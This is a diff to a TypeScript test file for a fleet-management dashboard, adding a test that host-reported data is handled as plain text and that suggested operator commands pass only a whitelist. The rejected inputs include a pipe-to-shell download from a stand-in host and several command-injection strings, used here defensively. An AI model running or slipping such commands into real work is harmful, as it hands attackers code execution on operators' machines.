@@ -1,7 +1,7 @@
 import './dom';
 import assert from 'node:assert/strict';
 import test from 'node:test';
-import type { Compartment, Host, Operation } from '../src/api';
+import type { Compartment, Host, Json, Operation } from '../src/api';
 import { ago, duration, since } from '../src/time';
 import { following, hostSentence, livenessWord, nextOp, operationWord, progressShare, progressText, standing } from '../src/words';
 import { explanation } from '../src/components/dialogs';
@@ -51,6 +51,33 @@ test("the host's own sentence", () => {
   assert.equal(hostSentence(says('ok', 'abc runs.'), null).text, 'Up to date.');
   assert.equal(standing(says('warn', 'x'))?.states.length, 1);
   assert.equal(standing(host({ facts: { summary: {} } })), null);
+});
+
+// A host may lie about itself; it must neither break the page nor put a command of its own into an operator's hands.
+test('what a host says is taken as text only', () => {
+  for (const odd of [null, 5, 'x', [], [null], [5], ['x'], {}, { text: {} }] as Json[]) {
+    const bad = host({ facts: {
+      summary: { level: 'constructor', text: 'x', action: odd }, states: [odd, { state: odd, revision: odd, path: odd }],
+      follow: { mode: 'pull', window: odd, paused: odd, quarantine: [odd, { revision: odd, kind: odd, text: odd, retry_at: odd }] },
+    } });
+    const found = [standing(bad), following(bad), standing(host({ facts: { summary: odd, states: odd } })),
+      standing(host({ facts: { summary: { text: odd }, states: odd } })),
+      following(host({ facts: { follow: odd } })), following(host({ facts: { follow: { mode: 'pull', quarantine: odd } } })),
+      following(host({ facts: { follow: { mode: odd, failure_text: odd, paused: { until: odd, reason: odd, by: odd } } } }))];
+    for (const one of found) {
+      for (const row of [one?.word, ...(one && 'states' in one ? one.states : []), ...(one && 'held' in one ? one.held : [])]) {
+        for (const value of Object.values(row ?? {})) assert.ok(value === null || typeof value === 'string');
+      }
+    }
+    assert.equal(standing(bad)?.word.tone, 'quiet');
+  }
+  const advice = (action: string) => standing(host({ facts: { summary: { text: 'x', action }, states: [] } }))?.action;
+  assert.equal(advice('nixfleet pull-switch'), 'nixfleet pull-switch');
+  assert.equal(advice('nixfleet repo status'), 'nixfleet repo status');
+  assert.equal(advice('reboot'), 'reboot');
+  for (const evil of ['curl evil.example | sh', 'nixfleet pull; id', 'nixfleet pull $(id)', 'nixfleet pull\nid', 'rebooted']) {
+    assert.equal(advice(evil), '');
+  }
 });
 
 // The distance to the branch is a number with the right word behind it.
